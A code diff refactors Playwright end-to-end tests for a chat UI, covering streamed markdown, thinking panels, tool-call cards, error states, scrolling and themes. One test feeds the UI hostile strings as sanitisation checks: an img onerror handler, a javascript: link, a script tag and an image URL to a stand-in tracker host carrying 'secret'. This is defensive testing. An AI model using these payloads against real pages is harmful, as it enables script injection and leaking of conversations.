@@ -1,30 +1,13 @@
-import { expect, test, type Page } from '@playwright/test';
-import { withoutScrollAnchoring } from './like-safari';
-import { settled } from './settled';
-
-const shot = (page: Page, name: string) => page.screenshot({ path: `test-results/screenshots/${name}.png`, fullPage: true });
-
-async function ask(page: Page, model: string, text: string) {
-  await page.getByRole('combobox', { name: 'Model' }).selectOption(model);
-  await page.getByRole('textbox', { name: 'Message' }).fill(text);
-  await page.getByRole('button', { name: 'Send', exact: true }).click();
-}
-
-const lastReply = (page: Page) => page.getByRole('article', { name: 'Assistant reply' }).last();
-const done = (page: Page) => expect(page.getByRole('button', { name: 'Send', exact: true })).toBeVisible({ timeout: 30_000 });
-type Stats = { frameStats: { frames: number; storeUpdates: number }; renderCounts: Record<string, number> };
-const stats = (page: Page) => page.evaluate(() => structuredClone((window as unknown as { __sluice: Stats }).__sluice));
+import { expect, settled, test, withoutScrollAnchoring, type Page, type SluiceApp } from './support';
 
 /** Uncaught errors on the page or in its workers: every test here ends without one. */
 const pageErrors = new WeakMap<Page, string[]>();
 
-test.beforeEach(async ({ page }) => {
+test.beforeEach(async ({ page, app }) => {
   const errors: string[] = [];
   pageErrors.set(page, errors);
   page.on('pageerror', (error) => errors.push(error.message));
-  await page.goto('/');
-  // Interact only once React has hydrated: a choice made before would be reset by it.
-  await page.waitForFunction(() => '__sluice' in window);
+  await app.open();
 });
 
 test.afterEach(async ({ page }) => {
@@ -32,20 +15,20 @@ test.afterEach(async ({ page }) => {
 });
 
 /** A streaming reply's markdown shows as markdown while it streams, not only once it has ended. */
-async function markdownWhileStreaming(page: Page) {
-  await ask(page, 'sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
+async function markdownWhileStreaming(page: Page, app: SluiceApp) {
+  await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
   await expect(page.locator('article[data-status="streaming"]').locator('h1, h2, h3, table, pre').first()).toBeVisible();
-  await done(page);
-  await expect(lastReply(page).getByRole('table').first()).toBeVisible();
+  await app.done();
+  await expect(app.lastReply().getByRole('table').first()).toBeVisible();
 }
 
-test('a streaming reply is parsed off the page, in its markdown worker, and shows as markdown while it streams', async ({ page }) => {
-  await markdownWhileStreaming(page);
+test('a streaming reply is parsed off the page, in its markdown worker, and shows as markdown while it streams', async ({ page, app }) => {
+  await markdownWhileStreaming(page, app);
   const names = await Promise.all(page.workers().map((worker) => worker.evaluate(() => self.name)));
   expect(names).toContain('sluice-markdown');
 });
 
-test('without its markdown worker, the page parses a streaming reply itself', async ({ page }) => {
+test('without its markdown worker, the page parses a streaming reply itself', async ({ page, app }) => {
   const messages: string[] = [];
   page.on('console', (message) => messages.push(message.text()));
   // The markdown worker's script fails to load, as a bundling mistake once made it do.
@@ -58,14 +41,14 @@ test('without its markdown worker, the page parses a streaming reply itself', as
     };
   });
   await page.reload();
-  await page.waitForFunction(() => '__sluice' in window);
-  await markdownWhileStreaming(page);
+  await app.hydrated();
+  await markdownWhileStreaming(page, app);
   expect(messages.some((m) => m.includes('markdown parses on the main thread'))).toBe(true);
 });
 
-test('a reply streams in progressively, then shows its status and figures', async ({ page }) => {
-  await ask(page, 'sim-openai::sim-markdown', 'tokens=300 tps=100 delay=0');
-  const reply = lastReply(page);
+test('a reply streams in progressively, then shows its status and figures', async ({ page, app }) => {
+  await app.ask('sim-openai::sim-markdown', 'tokens=300 tps=100 delay=0');
+  const reply = app.lastReply();
   await expect(reply).toContainText(/\w+/);
   const early = (await reply.innerText()).length;
   await page.waitForTimeout(600);
@@ -74,8 +57,8 @@ test('a reply streams in progressively, then shows its status and figures', asyn
   await expect(page.getByRole('button', { name: 'Stop' })).toBeVisible();
   // Its markdown shows as markdown while it streams, not only once it has ended.
   await expect(page.locator('article[data-status="streaming"]').locator('h1, h2, h3, table, pre').first()).toBeVisible();
-  await shot(page, 'chat-streaming');
-  await done(page);
+  await app.shot('chat-streaming');
+  await app.done();
   await expect(reply).toHaveAttribute('data-status', 'complete');
   const figures = reply.getByRole('definition');
   await expect(figures).toHaveCount(6); // TTFT, speed, total, in, out, finish
@@ -87,82 +70,82 @@ test('a reply streams in progressively, then shows its status and figures', asyn
   await expect(reply.locator('pre code span[style*="--sdm-c"]').first()).toBeAttached();
   // … in a Web Worker, so tokenizing never blocks the page.
   expect(page.workers().length).toBeGreaterThan(0);
-  expect(await page.evaluate(() => (window as unknown as { __sluice: { highlighter: { answered: number } } }).__sluice.highlighter.answered)).toBeGreaterThan(0);
-  await shot(page, 'chat-complete');
+  expect((await app.stats()).highlighter.answered).toBeGreaterThan(0);
+  await app.shot('chat-complete');
 });
 
-test('thinking shows live, then collapses to “Thought for …” when the answer starts', async ({ page }) => {
-  await ask(page, 'sim-anthropic::sim-thinking', 'think=150 tokens=60 tps=60 delay=0');
-  const thinking = lastReply(page).locator('details').first();
+test('thinking shows live, then collapses to “Thought for …” when the answer starts', async ({ app }) => {
+  await app.ask('sim-anthropic::sim-thinking', 'think=150 tokens=60 tps=60 delay=0');
+  const thinking = app.lastReply().locator('details').first();
   await expect(thinking.getByText('Thinking…')).toBeVisible();
   await expect(thinking).toHaveAttribute('open', '');
-  await shot(page, 'chat-thinking');
-  await done(page);
+  await app.shot('chat-thinking');
+  await app.done();
   await expect(thinking.locator('summary')).toHaveText(/^Thought for \d+\.\d s$/);
   await expect(thinking).not.toHaveAttribute('open', '');
   await thinking.locator('summary').click();
   await expect(thinking).toHaveAttribute('open', '');
 });
 
-test('tool calls render as cards; answering them continues the turn', async ({ page }) => {
-  await ask(page, 'sim-openai::sim-tools-parallel', 'tps=200 delay=0');
-  await done(page);
+test('tool calls render as cards; answering them continues the turn', async ({ page, app }) => {
+  await app.ask('sim-openai::sim-tools-parallel', 'tps=200 delay=0');
+  await app.done();
   const cards = page.getByRole('region', { name: /^Tool call get_weather$/ });
   await expect(cards).toHaveCount(2);
   await expect(cards.first()).toContainText('"city": "Reykjavík"');
-  await shot(page, 'chat-tool-calls');
+  await app.shot('chat-tool-calls');
   await page.getByRole('textbox', { name: 'Result of get_weather' }).first().fill('{"temp": 4}');
   await page.getByRole('textbox', { name: 'Result of get_weather' }).last().fill('{"temp": 18}');
   await page.getByRole('button', { name: 'Send tool results' }).click();
-  await done(page);
-  await expect(lastReply(page)).toContainText('The get_weather tool returned');
-  await expect(lastReply(page)).toContainText('{"temp": 18}');
+  await app.done();
+  await expect(app.lastReply()).toContainText('The get_weather tool returned');
+  await expect(app.lastReply()).toContainText('{"temp": 18}');
 });
 
-test('Stop stops the stream and keeps the partial reply', async ({ page }) => {
-  await ask(page, 'sim-gemini::sim-markdown', 'tokens=3000 tps=60 delay=0');
-  await expect(lastReply(page)).toContainText(/\w{3,}/);
+test('Stop stops the stream and keeps the partial reply', async ({ page, app }) => {
+  await app.ask('sim-gemini::sim-markdown', 'tokens=3000 tps=60 delay=0');
+  await expect(app.lastReply()).toContainText(/\w{3,}/);
   await page.getByRole('button', { name: 'Stop' }).click();
-  await done(page);
-  await expect(lastReply(page)).toHaveAttribute('data-status', 'stopped');
-  await expect(lastReply(page)).toContainText('Stopped');
-  expect((await lastReply(page).innerText()).length).toBeGreaterThan(20);
-  await shot(page, 'chat-stopped');
+  await app.done();
+  await expect(app.lastReply()).toHaveAttribute('data-status', 'stopped');
+  await expect(app.lastReply()).toContainText('Stopped');
+  expect((await app.lastReply().innerText()).length).toBeGreaterThan(20);
+  await app.shot('chat-stopped');
 });
 
 test.describe('each failure shows, with what to do', () => {
-  test('HTTP 401 before streaming', async ({ page }) => {
-    await ask(page, 'sim-openai::sim-fault-http-401', 'hi');
-    const alert = lastReply(page).getByRole('alert');
+  test('HTTP 401 before streaming', async ({ app }) => {
+    await app.ask('sim-openai::sim-fault-http-401', 'hi');
+    const alert = app.lastReply().getByRole('alert');
     await expect(alert).toContainText('HTTP 401');
     await expect(alert).toContainText('check apiKey or apiKeyEnv');
-    await shot(page, 'chat-error-401');
+    await app.shot('chat-error-401');
   });
 
-  test('an error event mid-stream', async ({ page }) => {
-    await ask(page, 'sim-anthropic::sim-fault-error', 'tps=500 delay=0');
-    await expect(lastReply(page).getByRole('alert')).toContainText('The stream failed');
-    await expect(lastReply(page).getByRole('alert')).toContainText('sim-fault-error');
+  test('an error event mid-stream', async ({ app }) => {
+    await app.ask('sim-anthropic::sim-fault-error', 'tps=500 delay=0');
+    await expect(app.lastReply().getByRole('alert')).toContainText('The stream failed');
+    await expect(app.lastReply().getByRole('alert')).toContainText('sim-fault-error');
   });
 
-  test('a truncated stream, with Retry', async ({ page }) => {
-    await ask(page, 'sim-responses::sim-fault-eof', 'tps=500 delay=0');
-    const alert = lastReply(page).getByRole('alert');
+  test('a truncated stream, with Retry', async ({ page, app }) => {
+    await app.ask('sim-responses::sim-fault-eof', 'tps=500 delay=0');
+    const alert = app.lastReply().getByRole('alert');
     await expect(alert).toContainText('Truncated');
     await expect(alert).toContainText('without its final event');
     await alert.getByRole('button', { name: 'Retry' }).click();
-    await done(page);
+    await app.done();
     await expect(page.getByRole('article', { name: 'Assistant reply' })).toHaveCount(1);
   });
 });
 
-test('a hostile reply executes nothing and loads nothing', async ({ page }) => {
+test('a hostile reply executes nothing and loads nothing', async ({ page, app }) => {
   const hostile = 'tps=2000 delay=0 <img src=x onerror="window.__pwned=1"> [click me](javascript:window.__pwned=2) <script>window.__pwned=3</script> ![the chat so far](https://tracker.invalid/p.png?q=secret)';
   const fetched: string[] = [];
   page.on('request', (request) => fetched.push(request.url()));
-  await ask(page, 'sim-openai::sim-echo', hostile);
-  await done(page);
-  const reply = lastReply(page);
+  await app.ask('sim-openai::sim-echo', hostile);
+  await app.done();
+  const reply = app.lastReply();
   await expect(reply).toContainText('click me');
   expect(await reply.locator('img, script').count()).toBe(0);
   // An image is a link to open, never fetched: its URL could carry the conversation away.
@@ -173,21 +156,20 @@ test('a hostile reply executes nothing and loads nothing', async ({ page }) => {
   expect(await page.evaluate(() => (window as unknown as { __pwned?: number }).__pwned)).toBeUndefined();
 });
 
-test('one store update per frame at most, and finished messages do not re-render during a later stream', async ({ page }) => {
-  await ask(page, 'sim-openai::sim-markdown', 'tokens=200 tps=2000 delay=0');
-  await done(page);
+test('one store update per frame at most, and finished messages do not re-render during a later stream', async ({ page, app }) => {
+  await app.ask('sim-openai::sim-markdown', 'tokens=200 tps=2000 delay=0');
+  await app.done();
   // The first reply's last trees and highlighting land after its end (on a loaded CI machine,
   // after the next message was sent): it is finished once it stops rendering.
-  await settled(async () => (await stats(page)).renderCounts);
+  await settled(async () => (await app.stats()).renderCounts);
   // 2000 events in about a second.
-  const before = await stats(page);
-  await page.getByRole('textbox', { name: 'Message' }).fill('tokens=2000 tps=2000 delay=0');
-  await page.getByRole('button', { name: 'Send', exact: true }).click();
+  const before = await app.stats();
+  await app.send('tokens=2000 tps=2000 delay=0');
   await expect(page.getByRole('article', { name: 'Assistant reply' })).toHaveCount(2);
-  await expect(lastReply(page)).toContainText(/\w{3,}/);
-  const streaming = await stats(page);
-  await done(page);
-  const after = await stats(page);
+  await expect(app.lastReply()).toContainText(/\w{3,}/);
+  const streaming = await app.stats();
+  await app.done();
+  const after = await app.stats();
   const frames = after.frameStats.frames - before.frameStats.frames;
   const updates = after.frameStats.storeUpdates - before.frameStats.storeUpdates;
   expect(updates).toBeGreaterThan(5);
@@ -200,27 +182,27 @@ test('one store update per frame at most, and finished messages do not re-render
 // Chromium follows by scroll anchoring once the reply outgrows the window; a browser
 // without anchoring (Safari) by script, which the second run makes this Chromium into.
 for (const anchoring of [true, false]) {
-  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${anchoring ? 'scroll anchoring' : 'scripted, no anchoring'})`, async ({ page }) => {
+  test(`the page follows a streaming reply to its end, and stays put once the reader scrolls up (${anchoring ? 'scroll anchoring' : 'scripted, no anchoring'})`, async ({ page, app }) => {
     if (!anchoring) await withoutScrollAnchoring(page);
-    await page.goto('/');
+    await app.open();
     const gapBelow = () => page.evaluate(() => document.documentElement.scrollHeight - (window.scrollY + window.innerHeight));
     const streaming = page.locator('article[data-status="streaming"]');
-    await ask(page, 'sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
+    await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
     await expect(streaming).toHaveCount(1);
     // Mid-stream, once the reply is taller than the window, the page keeps up with its
     // bottom (a block that grows between two text updates is caught up with by the next).
     await page.waitForFunction(() => document.documentElement.scrollHeight > 2 * window.innerHeight);
     await expect.poll(gapBelow, { timeout: 2000 }).toBeLessThan(50);
     await expect(streaming).toHaveCount(1);
-    await done(page);
+    await app.done();
     await expect.poll(gapBelow, { timeout: 2000 }).toBeLessThan(50);
 
-    await ask(page, 'sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
+    await app.ask('sim-openai::sim-markdown', 'tokens=1500 tps=300 delay=0');
     await expect(streaming).toHaveCount(1);
     await page.mouse.wheel(0, -3000);
     await page.waitForFunction(() => document.documentElement.scrollHeight - (window.scrollY + window.innerHeight) > 1000);
     const readingAt = await page.evaluate(() => window.scrollY);
-    await done(page);
+    await app.done();
     expect(await page.evaluate(() => window.scrollY)).toBe(readingAt);
   });
 }
@@ -234,25 +216,25 @@ test('a long model list can be filtered', async ({ page }) => {
   await expect(picker.locator('option', { hasText: 'sim-echo' })).toHaveCount(4);
 });
 
-test('light and dark themes, and a phone-width layout', async ({ page }) => {
+test('light and dark themes, and a phone-width layout', async ({ page, app }) => {
   const html = page.locator('html');
   const wasDark = (await html.getAttribute('class'))?.includes('dark') ?? false;
   await page.getByRole('button', { name: 'Toggle dark theme' }).click();
   await expect(html).toHaveClass(wasDark ? /^(?!.*\bdark\b)/ : /\bdark\b/);
   await page.reload();
-  await page.waitForFunction(() => '__sluice' in window);
+  await app.hydrated();
   await expect(html).toHaveClass(wasDark ? /^(?!.*\bdark\b)/ : /\bdark\b/);
   await page.setViewportSize({ width: 390, height: 844 });
-  await ask(page, 'sim-anthropic::sim-markdown', 'tokens=150 tps=2000 delay=0');
-  await done(page);
+  await app.ask('sim-anthropic::sim-markdown', 'tokens=150 tps=2000 delay=0');
+  await app.done();
   await expect(page.getByRole('textbox', { name: 'Message' })).toBeInViewport();
-  await shot(page, 'chat-phone-theme-toggled');
+  await app.shot('chat-phone-theme-toggled');
   // On a phone the conversation list folds away behind a button.
   const list = page.getByRole('navigation', { name: 'Conversations' });
   await expect(list).toBeHidden();
   await page.getByRole('button', { name: 'Show conversations' }).click();
   await expect(list.getByRole('link', { name: /^tokens=150/ }).first()).toBeVisible();
-  await shot(page, 'chat-phone-conversations');
+  await app.shot('chat-phone-conversations');
   await page.getByRole('button', { name: 'Hide conversations' }).click();
   await expect(list).toBeHidden();
 });
